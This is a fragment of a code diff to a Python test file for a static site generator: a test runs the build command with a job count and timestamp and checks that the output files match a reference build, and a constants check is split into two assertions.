+        str(jobs),
+        "--at",
+        NOW.isoformat(),
+        "-q",
+    ]
+    done = subprocess.run(
+        command, cwd=REPOSITORY, env=os.environ | environment, capture_output=True, text=True, timeout=100, check=False
+    )
     assert done.returncode == 0, done.stdout + done.stderr
     made = Site(root)
     assert made.files() == leaky.files()
 
 
 def test_the_constants_that_these_tests_turn_are_still_there() -> None:
-    assert ssg.build._PARALLEL_FROM > 1 and ssg.build._GROUP > 1
+    assert ssg.build._PARALLEL_FROM > 1
+    assert ssg.build._GROUP > 1
